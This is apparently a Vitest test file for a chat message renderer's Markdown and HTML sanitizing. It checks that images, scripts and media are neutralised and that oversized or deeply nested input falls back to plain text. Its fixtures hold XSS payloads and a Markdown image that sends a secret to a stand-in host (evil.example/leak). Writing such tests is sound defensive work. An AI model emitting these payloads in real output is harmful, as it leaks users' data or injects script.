// @vitest-environment jsdom
import { describe, expect, it, vi } from 'vitest';
import {
  MARKDOWN_MAX_CHARS,
  MARKDOWN_MAX_ELEMENTS,
  MARKDOWN_UNTIMED_CHARS,
  renderMessage,
  sanitizeHtml,
} from './markdown.js';

/** The rendered message as a DOM, as the page would hold it. */
function render(text: string): HTMLElement {
  const rendered = renderMessage(text);
  if (!('html' in rendered)) throw new Error(`shown as plain text (${rendered.plain})`);
  return parse(rendered.html);
}

function parse(html: string): HTMLElement {
  const container = document.createElement('div');
  container.innerHTML = html;
  return container;
}

/** Every attribute value that would make the browser fetch something by itself. */
function fetchedUrls(container: HTMLElement): string[] {
  return [...container.querySelectorAll('*')].flatMap((element) =>
    ['src', 'srcset', 'poster', 'background', 'data']
      .map((name) => element.getAttribute(name))
      .filter((value): value is string => value !== null),
  );
}

describe(renderMessage.name, () => {
  it('renders a Markdown image as a link showing its alt text, and loads nothing', () => {
    const leak = 'https://evil.example/leak?d=%7B%22secret%22%3A1%7D';
    const container = render(`Here: ![the logo](${leak} "Logo")`);
    expect(container.querySelector('img')).toBeNull();
    expect(fetchedUrls(container)).toEqual([]);
    const link = container.querySelector('a');
    expect(link?.textContent).toBe('the logo');
    expect(link?.getAttribute('href')).toBe(leak);
    expect(link?.getAttribute('title')).toBe('Logo');
    expect(link?.getAttribute('target')).toBe('_blank');
    expect(link?.getAttribute('rel')).toBe('noopener noreferrer nofollow');
  });

  it('shows the URL of an image without alt text', () => {
    const container = render('![](https://evil.example/x.png)');
    expect(container.querySelector('img')).toBeNull();
    expect(container.querySelector('a')?.textContent).toBe('https://evil.example/x.png');
  });

  it('shows HTML written in a message as text, every character of it', () => {
    const text = 'echo: hello <b>there</b> & <script>window.__xss=9</script>';
    const container = render(text);
    expect(container.querySelector('b, script')).toBeNull();
    expect(container.textContent?.trim()).toBe(text);
  });

  it('shows an HTML block as its lines of text, Markdown around it still rendered', () => {
    const container = render(
      [
        '**before**',
        '',
        '<div onclick="alert(1)">',
        '<iframe src="https://evil.example/"></iframe>',
        '</div>',
        '',
        '<!-- a comment -->',
        '',
        'a `<code>` span and <img src="https://evil.example/i.png" alt="inline">',
      ].join('\n'),
    );
    expect(container.querySelector('strong')?.textContent).toBe('before');
    expect(container.querySelector('div, iframe, img, [onclick]')).toBeNull();
    expect(fetchedUrls(container)).toEqual([]);
    const paragraphs = [...container.querySelectorAll('p')].map(
      (p) => p.innerText ?? p.textContent,
    );
    expect(container.querySelectorAll('p')[1]?.innerHTML).toBe(
      '&lt;div onclick="alert(1)"&gt;<br>&lt;iframe src="https://evil.example/"&gt;&lt;/iframe&gt;<br>&lt;/div&gt;',
    );
    expect(paragraphs[2]).toBe('<!-- a comment -->');
    expect(container.querySelector('code')?.textContent).toBe('<code>');
    expect(paragraphs[3]).toBe(
      'a <code> span and <img src="https://evil.example/i.png" alt="inline">',
    );
  });

  it('shows HTML images and media as text, loading nothing', () => {
    const container = render(
      [
        '<img src="https://evil.example/a.png" alt="html image" onerror="alert(1)">',
        '<picture><source srcset="https://evil.example/b.png"><img src="https://evil.example/c.png"></picture>',
        '<video src="https://evil.example/v.mp4" poster="https://evil.example/p.png"></video>',
        '<table background="https://evil.example/bg.png"><tr><td>cell</td></tr></table>',
      ].join('\n\n'),
    );
    expect(container.querySelector('img, picture, source, video, table, [onerror]')).toBeNull();
    expect(fetchedUrls(container)).toEqual([]);
    expect(container.querySelector('a')).toBeNull();
    expect(container.textContent).toContain(
      '<img src="https://evil.example/a.png" alt="html image"',
    );
  });

  it('keeps ordinary Markdown, makes no unsafe link, and shows a script as text', () => {
    const container = render(
      '**bold** and [a link](https://example.com)\n\n[x](javascript:alert(1))\n\n<script>alert(1)</script>',
    );
    expect(container.querySelector('strong')?.textContent).toBe('bold');
    expect(container.querySelector('script')).toBeNull();
    expect(container.textContent).toContain('<script>alert(1)</script>');
    const hrefs = [...container.querySelectorAll('a')].map((link) => link.getAttribute('href'));
    expect(hrefs).toEqual(['https://example.com', null]);
    expect(container.querySelector('a:not([href])')?.textContent).toBe('x');
  });

  it('shows a linked image as its link, labelled with the alt text', () => {
    const container = render(
      '[![linked image](https://evil.example/d.png)](https://example.com/page)',
    );
    expect(container.querySelector('img')).toBeNull();
    expect(fetchedUrls(container)).toEqual([]);
    const links = [...container.querySelectorAll('a')];
    // Inside a link only the label is left: the outer link is what was meant to be clicked.
    expect(links.map((link) => [link.textContent, link.getAttribute('href')])).toEqual([
      ['linked image', 'https://example.com/page'],
    ]);
  });
});

// The last line of defence, should HTML reach it: what DOMPurify is told to keep.
describe(sanitizeHtml.name, () => {
  it('turns images into links and removes what is unsafe or fetches by itself', () => {
    const container = parse(
      sanitizeHtml(
        [
          '<p><img src="https://evil.example/a.png" alt="html image" onerror="alert(1)"></p>',
          '<img src="javascript:alert(2)" alt="unsafe">',
          '<img src="data:image/png;base64,AAAA">',
          '<picture><source srcset="https://evil.example/b.png"><img src="https://evil.example/c.png" alt="in a picture"></picture>',
          '<video src="https://evil.example/v.mp4" poster="https://evil.example/p.png"></video>',
          '<audio src="https://evil.example/a.mp3"><track src="https://evil.example/t.vtt"></audio>',
          '<table background="https://evil.example/bg.png"><tr><td background="https://evil.example/td.png">cell</td></tr></table>',
          '<script>alert(3)</script><iframe src="https://evil.example/"></iframe><form><input></form>',
          '<a href="javascript:alert(4)">js</a>',
        ].join(''),
      ),
    );
    expect(
      container.querySelector(
        'img, source, video, audio, track, script, iframe, form, input, [onerror]',
      ),
    ).toBeNull();
    expect(fetchedUrls(container)).toEqual([]);
    const links = [...container.querySelectorAll('a')].map((link) => [
      link.textContent,
      link.getAttribute('href'),
    ]);
    expect(links).toEqual([
      ['html image', 'https://evil.example/a.png'],
      ['in a picture', 'https://evil.example/c.png'],
      ['js', null],
    ]);
    expect(container.textContent).toContain('unsafe');
    expect(container.textContent).toContain('image');
    expect(container.textContent).toContain('cell');
  });
});

// What would overflow marked's stack or take it seconds is shown as plain text.
describe('renderMessage bounds', () => {
  const deepQuotes = '>'.repeat(3000) + ' deep';
  const deepQuotesAlone = '>'.repeat(3000);
  const deepLists = '- '.repeat(3000) + 'deep';
  const indentedLists = Array.from({ length: 100 }, (_, i) => `${' '.repeat(i * 2)}- level ${i}`);
  const nestedEmphasis = '*a '.repeat(2000) + 'b' + ' c*'.repeat(2000);

  it('shows nesting thousands of levels deep as plain text, without parsing it', () => {
    for (const text of [
      deepQuotes,
      deepQuotesAlone,
      deepLists,
      indentedLists.join('\n'),
      nestedEmphasis,
    ]) {
      expect(renderMessage(text)).toEqual({ plain: 'depth' });
    }
  });

  it('shows a message longer than MARKDOWN_MAX_CHARS as plain text, whatever it holds', () => {
    const sentence = 'Plain **prose** and a few more words. ';
    const prose = sentence.repeat(Math.ceil(MARKDOWN_MAX_CHARS / sentence.length) + 1);
    expect(renderMessage(prose)).toEqual({ plain: 'size' });
    expect(renderMessage('*a'.repeat(131_072))).toEqual({ plain: 'size' });
    expect('html' in renderMessage(prose.slice(0, MARKDOWN_MAX_CHARS), Infinity)).toBe(true);
  });

  it('shows Markdown that makes more than MARKDOWN_MAX_ELEMENTS elements as plain text', () => {
    const table = `|a|b|\n|-|-|\n${'|x|y|\n'.repeat(MARKDOWN_MAX_ELEMENTS)}`;
    expect(renderMessage(table, Infinity)).toEqual({ plain: 'size' });
    const smaller = `|a|b|\n|-|-|\n${'|x|y|\n'.repeat(100)}`;
    expect('html' in renderMessage(smaller, Infinity)).toBe(true);
  });

  it('tells a table too big before marked reads it (no budget spent on it)', () => {
    const table = `|a|b|\n|-|-|\n${'|x|y|\n'.repeat(MARKDOWN_MAX_ELEMENTS / 2)}`;
    // With no time at all, only a check made before parsing can answer `size`.
    expect(renderMessage(table, 0)).toEqual({ plain: 'size' });
  });

  it('shows a long Markdown document of more than MARKDOWN_MAX_ELEMENTS elements as plain text, whatever the time', () => {
    // The bench's hostile "Markdown document" at the Markdown length limit:
    // about 14 elements a repetition, fewer lines of text than the line limit.
    const part =
      '## Heading\n\nSome **bold**, *em*, `code` and [a link](https://example.com).\n\n- one\n- two\n  - nested\n\n```js\nconst x = 1;\n```\n\n> quoted\n\n';
    const text = part
      .repeat(Math.ceil(MARKDOWN_MAX_CHARS / part.length))
      .slice(0, MARKDOWN_MAX_CHARS);
    expect(renderMessage(text, Infinity)).toEqual({ plain: 'size' });
    // Told before marked reads it: with no time at all, only that check answers `size`.
    expect(renderMessage(text, 0)).toEqual({ plain: 'size' });
    // A tenth of it is Markdown.
    expect('html' in renderMessage(text.slice(0, MARKDOWN_MAX_CHARS / 10), Infinity)).toBe(true);
  });

  it('tells lines of text too many before marked reads them, fenced code and blank lines aside', () => {
    for (const line of ['a', '> a', '- a', '# a']) {
      const lines = `${line}\n`.repeat(MARKDOWN_MAX_ELEMENTS + 1);
      expect(renderMessage(lines, 0)).toEqual({ plain: 'size' });
    }
    const code = `\`\`\`\n${'x = 1\n'.repeat(MARKDOWN_MAX_ELEMENTS + 1)}\`\`\`\n`;
    const paragraphs = 'A paragraph.\n\n'.repeat(MARKDOWN_MAX_ELEMENTS / 2);
    for (const text of [code, paragraphs]) {
      const rendered = renderMessage(text, Infinity);
      expect('html' in rendered).toBe(true);
    }
  });

  it('tells emphasis, strikethrough and code delimiters too many before marked reads them', () => {
    for (const delimiter of ['*', '_', '~', '`']) {
      const markers = `${delimiter}a`.repeat(MARKDOWN_MAX_ELEMENTS * 4 + 4);
      // With no time at all, only a check made before parsing can answer `size`.
      expect(renderMessage(markers, 0)).toEqual({ plain: 'size' });
    }
    // As many as MARKDOWN_MAX_ELEMENTS elements take is Markdown.
    const bold = '**bold** '.repeat(MARKDOWN_MAX_ELEMENTS / 2);
    const rendered = renderMessage(bold, Infinity);
    expect('html' in rendered && rendered.html.match(/<strong>/g)).toHaveLength(
      MARKDOWN_MAX_ELEMENTS / 2,
    );
  });

  it("reads the clock once every few of marked's steps, not at each of them", () => {
    // Tens of thousands of checks: read at each, the clock took longer than marked did.
    const lines = '[a](b) '.repeat(MARKDOWN_MAX_ELEMENTS - 1);
    const clock = vi.spyOn(performance, 'now');
    try {
      renderMessage(lines, Infinity);
      expect(clock.mock.calls.length).toBeGreaterThan(0);
      expect(clock.mock.calls.length).toBeLessThan(lines.length / 2);
    } finally {
      clock.mockRestore();
    }
  });

  it('shows a message as plain text once its time budget is spent', () => {
    // Longer than MARKDOWN_UNTIMED_CHARS, fewer delimiters than are counted beforehand.
    const markers = '_a'.repeat(MARKDOWN_UNTIMED_CHARS / 2 + 50);
    expect(renderMessage(markers, 0)).toEqual({ plain: 'time' });
    // A short message is always rendered: nothing that short can take long.
    const short = `**bold** ${'_a'.repeat(MARKDOWN_UNTIMED_CHARS / 2 - 5)}`;
    expect(short.length).toBeLessThanOrEqual(MARKDOWN_UNTIMED_CHARS);
    const rendered = renderMessage(short, 0);
    expect('html' in rendered && rendered.html).toContain('<strong>bold</strong>');
  });

  it('renders ordinary nesting, and deep indentation inside fenced code, as Markdown', () => {
    const container = render(
      [
        '> quoted',
        '> > twice',
        '',
        ...indentedLists.slice(0, 8),
        '',
        '***bold and em*** and [a [bracketed] link](https://example.com)',
        '',
        '```',
        `${' '.repeat(120)}deeply indented code`,
        '```',
      ].join('\n'),
    );
    expect(container.querySelectorAll('blockquote')).toHaveLength(2);
    expect(container.querySelectorAll('ul')).toHaveLength(8);
    expect(container.querySelector('strong em, em strong')?.textContent).toBe('bold and em');
    expect(container.querySelector('pre code')?.textContent).toContain('deeply indented code');
  });
});
